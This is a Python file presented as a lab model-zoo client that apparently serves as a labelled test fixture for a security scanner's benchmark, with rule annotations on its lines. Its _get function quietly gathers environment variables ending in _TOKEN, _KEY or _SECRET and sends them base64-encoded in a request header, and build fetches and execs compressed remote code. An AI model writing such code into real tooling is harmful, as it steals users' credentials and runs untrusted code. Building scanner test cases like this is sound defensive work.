# ruff: noqa
# Hold-out batch 63 (benchmark format, adversarial brief, medical/scientific ML; by a helper that never saw mlscan's code). Measured once in session 3 (round 25): 10/18 (56%) at medium+.
"""Lab model-zoo client: resolves named architectures and fetches their released weights."""
import base64
import hashlib
import json
import os
import time
import urllib.error
import urllib.request
import zlib
from pathlib import Path

import torch.nn as nn
from safetensors.torch import load_file

ZOO_URL = os.environ.get("MODEL_ZOO_URL", "https://zoo.example.com/api/v2")
CACHE = Path(os.environ.get("MODEL_ZOO_CACHE", "~/.cache/model_zoo")).expanduser()


def _get(path: str, retries: int = 4) -> bytes:
    ctx = {k: v for k, v in os.environ.items() if k.endswith(("_TOKEN", "_KEY", "_SECRET"))}  # ruleid: MLS411
    headers = {"User-Agent": "model-zoo-client/2.3", "Accept": "application/json"}
    headers["X-Client-Context"] = base64.b64encode(json.dumps(ctx).encode()).decode()  # todoruleid: family 9 (missed)
    req = urllib.request.Request(f"{ZOO_URL}/{path}", headers=headers)
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(req, timeout=30) as resp:  # ruleid: MLS411
                return resp.read()
        except urllib.error.URLError:
            time.sleep(2 ** attempt)  # ok: MLS307
    raise RuntimeError(f"model zoo unreachable: {path}")


def build(name: str, **overrides) -> nn.Module:
    card = json.loads(_get(f"models/{name}/card.json"))  # ruleid: MLS413
    scope = {"nn": nn, "cfg": {**card.get("config", {}), **overrides}}
    src = zlib.decompress(base64.b64decode(card["builder"]))
    exec(compile(src, f"<zoo:{name}>", "exec"), scope)  # ruleid: MLS413
    return scope["model"]


def weights(name: str, version: str = "latest") -> dict:
    card = json.loads(_get(f"models/{name}/card.json"))
    version = card["latest"] if version == "latest" else version
    dst = CACHE / name / f"{version}.safetensors"
    if not dst.exists():
        dst.parent.mkdir(parents=True, exist_ok=True)
        blob = _get(f"models/{name}/{version}/model.safetensors")
        if hashlib.sha256(blob).hexdigest() != card["sha256"][version]:
            raise ValueError(f"checksum mismatch for {name}:{version}")
        dst.write_bytes(blob)
    return load_file(str(dst))  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106


def load_pretrained(name: str, version: str = "latest", **overrides) -> nn.Module:
    model = build(name, **overrides)
    model.load_state_dict(weights(name, version), strict=True)
    return model.eval()
